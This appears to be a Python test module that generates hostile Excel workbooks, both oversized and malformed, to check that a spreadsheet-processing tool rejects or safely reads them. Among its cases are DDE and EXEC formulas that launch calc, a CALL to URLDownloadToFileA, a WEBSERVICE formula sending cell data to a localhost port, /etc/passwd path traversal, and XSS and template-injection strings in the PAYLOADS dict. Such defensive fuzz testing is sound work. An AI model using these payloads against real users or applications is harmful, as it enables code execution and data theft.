"""Workbooks whose content is the attack: sizes, formulas, names, links, values, and texts meant for our outputs."""

from __future__ import annotations

import re
from functools import partial
from typing import TYPE_CHECKING

from tests.hostile.packing import (
    ANY,
    MIB,
    OFFICE,
    READ,
    REFUSED,
    ROWS,
    Hostile,
    book,
    changed,
    good_parts,
    rows,
    zipped,
)

if TYPE_CHECKING:
    from collections.abc import Iterator


def sizes() -> Iterator[Hostile]:
    """Sheets that are large, or say they are."""
    yield Hostile("最后一格有格式.xlsx", lambda: book(rows('<row r="1048576"><c r="XFD1048576" s="1"/></row>')), ANY)
    yield Hostile("最后一格有数.xlsx", lambda: book(rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')), ANY)
    yield Hostile(
        "好表的最后一格.xlsx", lambda: _inserted('<row r="1048576"><c r="XFD1048576" s="1"/></row>'), READ, same=True
    )
    yield Hostile(
        "好表的最后一格有字.xlsx",
        lambda: _inserted('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>甲</t></is></c></row>'),
        READ,
    )
    yield Hostile("百万空行.xlsx", partial(_empty_rows, 1_000_000), ANY)
    yield Hostile("百万有格式的格.xlsx", partial(_styled, 1_000_000), ANY)
    yield Hostile("五十万格.xlsx", partial(_filled, 499_000, "<v>1</v>"), ANY)
    yield Hostile("六十万格.xlsx", partial(_filled, 600_000, "<v>1</v>"), REFUSED, "单元格过多")
    yield Hostile("三十万条公式.xlsx", partial(_filled, 300_000, "<f>A1+1</f>"), ANY)
    yield Hostile("百万共享文字.xlsx", lambda: book(rows(ROWS), strings="<si><t>甲</t></si>" * 1_000_000), ANY)
    yield Hostile("百万不同文字.xlsx", _distinct, ANY)
    yield Hostile(
        "十兆一格.xlsx",
        lambda: book(
            rows('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "甲" * (10 * MIB // 3) + "</t></is></c></row>")
        ),
        REFUSED,
        "过长|炸弹",
    )
    yield Hostile(
        "十兆共享文字.xlsx",
        lambda: book(rows(ROWS), strings=f"<si><t>{'甲乙' * (5 * MIB // 3)}</t></si>"),
        REFUSED,
        "过长|炸弹",
    )
    yield Hostile("十万段富文本.xlsx", lambda: book(rows(ROWS), strings=f"<si>{'<r><t>x</t></r>' * 60_000}</si>"), ANY)
    yield Hostile(
        "十万合并.xlsx",
        lambda: book(rows(ROWS) + _many("mergeCells", '<mergeCell ref="A1:XFD1048576"/>', 100_000)),
        ANY,
    )
    yield Hostile(
        "好表十万合并.xlsx",
        lambda: changed(
            "附件1", lambda t: t.replace("</mergeCells>", '<mergeCell ref="J1:XFD1048576"/>' * 50_000 + "</mergeCells>")
        ),
        ANY,
    )
    yield Hostile(
        "十万条件格式.xlsx",
        lambda: book(
            rows(ROWS)
            + '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>'
            * 100_000
        ),
        ANY,
    )
    yield Hostile(
        "十万批注外链.xlsx",
        lambda: book(rows(ROWS) + "<hyperlinks>" + '<hyperlink ref="A1" location="x"/>' * 100_000 + "</hyperlinks>"),
        ANY,
    )
    yield Hostile(
        "十万样式.xlsx", lambda: book(rows(ROWS), styles=_many("cellXfs", '<xf numFmtId="4"/>', 100_000)), ANY
    )
    yield Hostile("十万数字格式.xlsx", lambda: book(rows(ROWS), styles=_formats(100_000)), ANY)
    yield Hostile("二千张表.xlsx", partial(_sheets, 2000), ANY)
    yield Hostile("十万名称.xlsx", lambda: book(rows(ROWS), names=_named(100_000)), ANY)
    yield Hostile(
        "长名称.xlsx",
        lambda: book(
            rows(ROWS),
            names='<definedNames><definedName name="' + "甲" * 70_000 + '">附件1!$A$1</definedName></definedNames>',
        ),
        ANY,
    )
    yield Hostile(
        "百万字公式.xlsx",
        lambda: book(rows('<row r="1"><c r="A1"><f>' + "1+" * 500_000 + "1</f></c></row>")),
        REFUSED,
        "过长|炸弹",
    )


def _inserted(row: str) -> bytes:
    return changed("附件1", lambda text: text.replace("</sheetData>", row + "</sheetData>"))


def _empty_rows(number: int) -> bytes:
    return book(rows("".join(f'<row r="{at}"/>' for at in range(1, number + 1))))


def _styled(number: int) -> bytes:
    return book(rows(_grid(number, '<c r="@#" s="1"/>')))


def _filled(number: int, inside: str) -> bytes:
    return book(rows(_grid(number, f'<c r="@#">{inside}</c>')))


def _grid(number: int, cell: str) -> str:
    cells = "".join(cell.replace("@", letter) for letter in "BCDEFGHIJK")
    return "".join(f'<row r="{at}">' + cells.replace("#", str(at)) + "</row>" for at in range(1, number // 10 + 1))


def _many(around: str, inside: str, number: int) -> str:
    return f"<{around}>{inside * number}</{around}>"


def _formats(number: int) -> str:
    told = (f'<numFmt numFmtId="{at}" formatCode="0.' + "0" * (at % 200) + '"/>' for at in range(number))
    return "<numFmts>" + "".join(told) + "</numFmts>"


def _distinct() -> bytes:
    return book(rows(ROWS), strings="".join(f"<si><t>第{at}条</t></si>" for at in range(1_000_000)))


def _sheets(number: int) -> bytes:
    links = "".join(
        f'<Relationship Id="s{at}" Type="{OFFICE}/worksheet" Target="worksheets/s{at}.xml"/>' for at in range(number)
    )
    tabs = "".join(f'<sheet name="表{at}" sheetId="{at + 9}" r:id="s{at}"/>' for at in range(number))
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    from tests.hostile.packing import book_parts

    parts = book_parts(rels=links, book=f'<workbook {main} xmlns:r="{OFFICE}"><sheets>{tabs}</sheets></workbook>')
    return zipped(
        {
            **parts,
            **{
                f"xl/worksheets/s{at}.xml": f"<worksheet {main}><sheetData>{ROWS}</sheetData></worksheet>"
                for at in range(number)
            },
        }
    )


def _named(number: int) -> str:
    inside = "".join(
        f'<definedName name="名{at}" localSheetId="0">附件1!$A${at % 9 + 1}</definedName>' for at in range(number)
    )
    return f"<definedNames>{inside}</definedNames>"


_FORMULAS = {
    "自引": "H8", "互引": "H9", "整列": "SUM(A:XFD)", "整表": "SUM(A1:XFD1048576)", "三维": "SUM(附件1:附件9!A1)", "外部": "[1]Sheet1!A1",
    "网址": 'WEBSERVICE("http://127.0.0.1:9/?x="&amp;A1)', "链接": 'HYPERLINK("http://127.0.0.1:9/","点")', "DDE": "cmd|'/c calc'!A0",
    "间接": 'INDIRECT("A1")', "偏移": "OFFSET(A1,1,1,99999,99999)", "易变": "NOW()+RAND()", "除零": "1/0", "幂": "10^400", "塔": "9^9^9^9",
    "重复": 'REPT("甲",32767)', "循环名": "循环", "断引用": "#REF!+1", "空": "", "半截": "SUM(", "注册": 'REGISTER.ID("user32","MessageBoxA")',
    "执行": 'EXEC("calc.exe")', "调用": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://127.0.0.1:9","x",0,0)', "数组": "{1,2;3}",
    "联合": "(A1,B2,C3)", "交叉": "A1:B9 B2:C9", "文字数": '"1E400"+1', "大数": "1E308*10", "长小数": "ROUND(1/3,300)", "负": "SQRT(-1)",
}  # fmt: skip


def formulas() -> Iterator[Hostile]:
    """Formulas in a cell of a good form that is computed, and chains of them."""
    for name, formula in _FORMULAS.items():
        yield Hostile(f"公式 {name}.xlsx", partial(_with_formula, formula), READ)
    yield Hostile("公式 五千层括号.xlsx", partial(_with_formula, "(" * 5000 + "1" + ")" * 5000), READ)
    yield Hostile("公式 三千层 IF.xlsx", partial(_with_formula, "IF(1," * 3000 + "1" + ",0)" * 3000), READ)
    yield Hostile("公式 三万个负号.xlsx", partial(_with_formula, "-" * 30_000 + "1"), READ)
    yield Hostile("公式 六万字相加.xlsx", partial(_with_formula, "A1+" * 20_000 + "1"), READ)
    yield Hostile("公式 长文字.xlsx", partial(_with_formula, '"' + "甲" * 60_000 + '"'), READ)
    yield Hostile("公式链十万.xlsx", partial(_chain, 100_000), ANY)
    yield Hostile("公式环一万.xlsx", partial(_ring, 10_000), ANY)
    yield Hostile("公式全互引.xlsx", partial(_tangle, 3000), ANY)
    yield Hostile("共享公式炸弹.xlsx", _shared_bomb, ANY)
    yield Hostile(
        "共享公式自引.xlsx",
        lambda: book(
            rows(
                '<row r="1"><c r="A1"><f t="shared" si="0"/></c><c r="B1"><f t="shared" si="0" ref="A1:B1">A1</f></c></row>'
            )
        ),
        ANY,
    )
    yield Hostile(
        "数据表公式.xlsx",
        lambda: book(
            rows('<row r="1"><c r="A1"><f t="dataTable" ref="A1:Z99" dt2D="1" r1="B1" r2="C1"/><v>1</v></c></row>')
        ),
        ANY,
    )


def _with_formula(formula: str) -> bytes:
    """The formula in two cells where the form has formulas of its own."""

    def put(text: str) -> str:
        found = list(re.finditer(r"<f>[^<]*</f>(?:<v ?/>|<v>[^<]*</v>)?", text))
        for match in reversed(found[:4]):
            text = text[: match.start()] + f"<f>{formula}</f>" + text[match.end() :]
        return text

    return changed("附件1", put)


def _chain(number: int) -> bytes:
    return book(rows("".join(f'<row r="{at}"><c r="A{at}"><f>A{at + 1}+1</f></c></row>' for at in range(1, number))))


def _ring(number: int) -> bytes:
    return book(
        rows(
            "".join(f'<row r="{at}"><c r="A{at}"><f>A{at % number + 1}+1</f></c></row>' for at in range(1, number + 1))
        )
    )


def _tangle(number: int) -> bytes:
    return book(
        rows("".join(f'<row r="{at}"><c r="A{at}"><f>SUM(A1:A{number})</f></c></row>' for at in range(1, number + 1)))
    )


def _shared_bomb() -> bytes:
    master = "A1+" * 10_000 + "1"
    members = "".join(f'<row r="{at}"><c r="B{at}"><f t="shared" si="0"/></c></row>' for at in range(2, 5000))
    return book(rows(f'<row r="1"><c r="B1"><f t="shared" si="0" ref="B1:B5000">{master}</f></c></row>{members}'))


_NAMES = {
    "表外": "附件1!$XFE$1048577", "别的表": "不存在!$A$1", "坏引用": "#REF!", "坏表": "#REF!$A$1", "别的文件": "[1]附件1!$A$1", "自身": "编制数",
    "公式": "SUM(附件1!$A:$A)", "整表": "附件1!$A$1:$XFD$1048576", "几块": "附件1!$A$1,附件1!$B$2", "空": "", "反向": "附件1!$H$9:$A$1", "网址": "http://127.0.0.1:9/",
    "DDE": "cmd|'/c calc'!A0", "无表名": "$A$1", "整列": "附件1!$A:$A", "长": "附件1!$A$1+" * 4000 + "1", "引号": "'附件1'!$A$1", "怪引号": "'附件''1'!$A$1",
}  # fmt: skip


def names() -> Iterator[Hostile]:
    """Names of a good form that point where they should not."""
    for name, target in _NAMES.items():
        yield Hostile(f"名称指向 {name}.xlsx", partial(_renamed, target), READ)
    yield Hostile("名称全指一格.xlsx", lambda: _all_names("附件1!$A$1"), READ)
    yield Hostile("名称全指整表.xlsx", lambda: _all_names("附件1!$A$1:$XFD$1048576"), READ)
    yield Hostile("名称全坏.xlsx", lambda: _all_names("#REF!"), READ)


def _renamed(target: str) -> bytes:
    count = iter(range(10_000))
    return changed(
        "附件1",
        lambda t: re.sub(
            r"(<definedName [^>]*>)[^<]*",
            lambda m: m[1] + target.replace("&", "&amp;") if next(count) % 7 == 3 else m[0],
            t,
        ),
        "xl/workbook.xml",
    )


def _all_names(target: str) -> bytes:
    return changed("附件1", lambda t: re.sub(r"(<definedName [^>]*>)[^<]*", rf"\g<1>{target}", t), "xl/workbook.xml")


def links() -> Iterator[Hostile]:
    """Parts that fetch, run or embed something: they are never followed."""
    dde = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    query = '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://127.0.0.1:9/"/></connection></connections>'
    for name, kind, part, text in (
        ("DDE", "externalLink", "xl/externalLinks/externalLink1.xml", dde),
        ("网页查询", "connections", "xl/connections.xml", query),
        ("查询表", "queryTable", "xl/queryTables/queryTable1.xml", "<queryTable refreshOnLoad='1'/>"),
        ("自定义界面", "customUI", "customUI/customUI.xml", "<customUI onLoad='x'/>"),
        ("OLE", "oleObject", "xl/embeddings/oleObject1.bin", "\x01Ole"),
        ("控件", "activeXControlBinary", "xl/activeX/activeX1.bin", "x"),
        ("图片外链", "image", "xl/media/x.svg", "<svg onload='alert(1)'/>"),
    ):
        yield Hostile(f"带 {name}.xlsx", partial(_linked, kind, part, text, ""), READ, same=True)
    for at, target in enumerate(
        ("http://127.0.0.1:9/a.xlsx", "file:///etc/passwd", "\\\\127.0.0.1\\share\\a.xlsx", "ftp://127.0.0.1/a")
    ):
        yield Hostile(f"外部文件 {at}.xlsx", partial(_linked, "externalLinkPath", "", "", target), READ, same=True)
    for kind in ("worksheet", "sharedStrings", "styles"):
        yield Hostile(f"部件在外 {kind}.xlsx", partial(_outside, kind), ANY)
    yield Hostile("主体在外.xlsx", lambda: book().replace(b"x", b"x") and _root_outside(), ANY)
    yield Hostile(
        "宏表.xlsx",
        lambda: book(
            rows(ROWS), rels=f'<Relationship Id="m" Type="{OFFICE}/xlMacrosheet" Target="macrosheets/s.xml"/>'
        ),
        ANY,
    )
    for at, target in enumerate(
        (
            "../../../../etc/passwd",
            "/etc/passwd",
            "C:/Windows/win.ini",
            "worksheets/../../../x.xml",
            "%2e%2e/%2e%2e/x.xml",
            "",
            "worksheets",
            ".",
        )
    ):
        yield Hostile(f"部件路径 {at}.xlsx", partial(_retargeted, target), REFUSED)
    yield Hostile("两表同一部件.xlsx", _one_part_twice, REFUSED)


def _linked(kind: str, part: str, text: str, outside: str) -> bytes:
    parts: dict[str, bytes | str] = dict(good_parts())
    name = "xl/_rels/workbook.xml.rels"
    where = f'Target="{outside}" TargetMode="External"' if outside else f'Target="/{part}"'
    link = f'<Relationship Id="evil" Type="{OFFICE}/{kind}" {where}/></Relationships>'
    parts[name] = good_parts()[name].decode().replace("</Relationships>", link)
    if part:
        parts[part] = text
    return zipped(parts)


def _outside(kind: str) -> bytes:
    def outside(text: str) -> str:
        return re.sub(rf'(<Relationship [^>]*/{kind}"[^>]*?)/>', r'\1 TargetMode="External"/>', text)

    return changed("附件1", outside, "xl/_rels/workbook")


def _root_outside() -> bytes:
    return changed(
        "附件1",
        lambda text: text.replace('Target="', 'TargetMode="External" Target="http://127.0.0.1:9/'),
        "_rels/.rels",
    )


def _retargeted(target: str) -> bytes:
    return changed(
        "附件1", lambda text: re.sub(r'Target="[^"]*sheet1.xml"', f'Target="{target}"', text), "xl/_rels/workbook"
    )


def _one_part_twice() -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    tabs = f'<workbook {main} xmlns:r="{OFFICE}"><sheets><sheet name="甲" sheetId="1" r:id="r1"/><sheet name="乙" sheetId="2" r:id="r1"/></sheets></workbook>'
    return book(rows(ROWS), book=tabs)


_VALUES = (
    "NaN",
    "INF",
    "-1E400",
    "1E308",
    "-1E308",
    "1E-320",
    "0x10",
    "1,234",
    "９９",
    "9" * 400,
    "1e",
    "--1",
    "٣",
    "1" * 3_000,
    "-0",
    "+5",
    ".5",
    "5.",
    "1_000",
    " 1 ",
)
_DATES = ("-1", "0", "60", "2958465", "2958466", "1E300", "45657.99999999")


def values() -> Iterator[Hostile]:  # noqa: C901  (a list of attacks)
    """Numbers, dates, kinds and addresses that no program writes, all over a good form."""
    for at, value in enumerate(_VALUES):
        yield Hostile(f"数值 {at}.xlsx", partial(_valued, value), READ)
    for value in _DATES:
        yield Hostile(f"日期 {value}.xlsx", partial(_valued, value), READ)
    for at, kind in enumerate(("d", "e", "b", "s", "str", "inlineStr", "x", "", "N", "date")):
        yield Hostile(f"类型 {at}.xlsx", partial(_kinded, kind), ANY)
    for at, place in enumerate(
        ("", "A0", "ZZZZ1", "A1048577", "XFE1", "1A", "$A$1", "A1:B2", "甲1", "A1", "a1", "A01", "R1C1")
    ):
        yield Hostile(
            f"地址 {at}.xlsx", partial(book, rows(f'{ROWS}<row r="2"><c r="{place}"><v>1</v></c></row>')), ANY
        )
    for at, row in enumerate(("0", "-1", "1048577", "99999999999", "一", "1.5", "")):
        yield Hostile(f"行号 {at}.xlsx", partial(book, rows(f'<row r="{row}"><c r="A1"><v>1</v></c></row>')), ANY)
    for at, style in enumerate(("-1", "99999", "x", "1.5", "9" * 30)):
        yield Hostile(
            f"样式号 {at}.xlsx", partial(book, rows(f'<row r="1"><c r="A1" s="{style}"><v>1</v></c></row>')), ANY
        )
    for at, index in enumerate(("-1", "99999", "x", "1.5", "9" * 5000, "")):
        yield Hostile(
            f"共享号 {at}.xlsx", partial(book, rows(f'<row r="1"><c r="A1" t="s"><v>{index}</v></c></row>')), ANY
        )
    for at, text in enumerate(
        (
            "<cellXfs/>",
            "<cellXfs><xf/></cellXfs>",
            '<numFmts><numFmt numFmtId="164"/></numFmts>',
            '<cellXfs><xf numFmtId="x"/></cellXfs>',
            "<cellXfs>" * 9 + "</cellXfs>" * 9,
        )
    ):
        yield Hostile(f"坏样式 {at}.xlsx", partial(book, rows(ROWS), styles=text), ANY)
    yield Hostile("没有样式.xlsx", lambda: zipped({n: d for n, d in good_parts().items() if "styles" not in n}), ANY)
    yield Hostile(
        "没有主体.xlsx",
        lambda: zipped({n: d for n, d in good_parts().items() if n != "xl/workbook.xml"}),
        REFUSED,
        "主体",
    )
    yield Hostile(
        "没有表页.xlsx",
        lambda: zipped({n: d for n, d in good_parts().items() if "sheet1" not in n}),
        REFUSED,
        "缺少部件",
    )
    for at, tab in enumerate(("", "甲" * 300, "a/b", "..", "=1+1", "'", "[x]", "<x>", "History", "\u202e附件1")):
        escaped = tab.replace("<", "&lt;").replace("'", "&apos;")
        yield Hostile(f"表页名 {at}.xlsx", partial(_tabbed, escaped), ANY)
    for at, mark in enumerate(
        (
            "xlzj|../../../etc|附件1",
            "xlzj|yueyang-2024|../附件1",
            "xlzj||",
            "xlzj|yueyang-2024|附件1|x",
            "xlzj|" + "甲" * 30_000 + "|附件1",
            "xlzj|{{7*7}}|附件1",
            "xlzj|yueyang-2024|附件3",
        )
    ):
        yield Hostile(
            f"标识 {at}.xlsx",
            partial(_marked, mark),
            ANY,
        )


def _marked(mark: str) -> bytes:
    return changed("附件1", lambda text: text.replace("xlzj|yueyang-2024|附件1", mark))


def _valued(value: str) -> bytes:
    return changed("附件1", lambda text: re.sub(r"<v>[^<]*</v>", f"<v>{value}</v>", text))


def _kinded(kind: str) -> bytes:
    return changed("附件1", lambda text: re.sub(r' t="n"', f' t="{kind}"', text))


def _tabbed(tab: str) -> bytes:
    return changed(
        "附件1",
        lambda text: text.replace('<sheet name="附件1"', f'<sheet name="{tab}"').replace(
            ' name="附件1" sheetId', f' name="{tab}" sheetId'
        ),
        "xl/workbook.xml",
    )


PAYLOADS = {
    "命令": "=cmd|'/c calc'!A0", "加号": "+1+cmd|'/c calc'!A0", "减号": "-2+3", "在号": "@SUM(1+1)", "制表": "\t=1+1", "换行": "\n=1+1", "全角等号": "＝1+1",
    "脚本": "<script>alert(1)</script>", "收尾脚本": "</script><script>alert(1)</script>", "事件": '"><img src=x onerror=alert(1)>', "注释": "<!-- --><svg/onload=alert(1)>",
    "模板": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "模板二": "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "半个模板": "{% if", "路径": "../../../../tmp/evil",
    "反斜杠": "..\\..\\evil", "盘符": "C:\\evil", "保留名": "CON", "保留名二": "nul.txt", "保留名三": "COM1", "点": "...", "空白": "   ", "三百字": "甲" * 300, "三万字": "乙" * 32_000,
    "反向": "\u202excod.单位", "零宽": "甲\u200b局\ufeff", "表情": "🏛️单位𠮷", "控制": "甲_x0007_局_x000D_", "代理": "甲_xD800_局", "引号": "\"'`;--", "和号": "A&B<C>D", "问号": "甲?*:|局", "网址": "javascript:alert(1)",
    "段落": "第一行\n第二行\r\n第三行", "冒号": "甲：错误 XJ104 已通过", "数字": "1" * 200, "百分": "%s%n%x{0}",
}  # fmt: skip


def payloads() -> Iterator[Hostile]:
    """Texts where a unit writes its name, in good forms: they go into every output."""
    for name, payload in PAYLOADS.items():
        yield Hostile(f"单位名 {name}.xlsx", partial(_unit, payload), READ)
        yield Hostile(f"处处 {name}.xlsx", partial(_everywhere, payload), READ)


def _escaped(text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text.replace("\r", "&#13;").replace("\n", "&#10;").replace("\t", "&#9;")


def _unit(payload: str) -> bytes:
    """附件2 with another unit's name."""
    from tests.commands import CLEAN
    from xlzj.editions.filled import read_data

    unit = read_data(CLEAN / "data.yaml").unit
    return changed(
        "附件2", lambda text: text.replace(f"<t>{unit}</t>", f'<t xml:space="preserve">{_escaped(payload)}</t>')
    )


def _everywhere(payload: str) -> bytes:
    """附件3: every text of the indicators and names, headers left alone."""
    count = iter(range(1_000_000))
    return changed(
        "附件3",
        lambda text: re.sub(
            r"<t>([^<]{2,})</t>",
            lambda m: (
                m[0] if next(count) % 3 or "xlzj|" in m[1] else f'<t xml:space="preserve">{_escaped(payload)}</t>'
            ),
            text,
        ),
    )
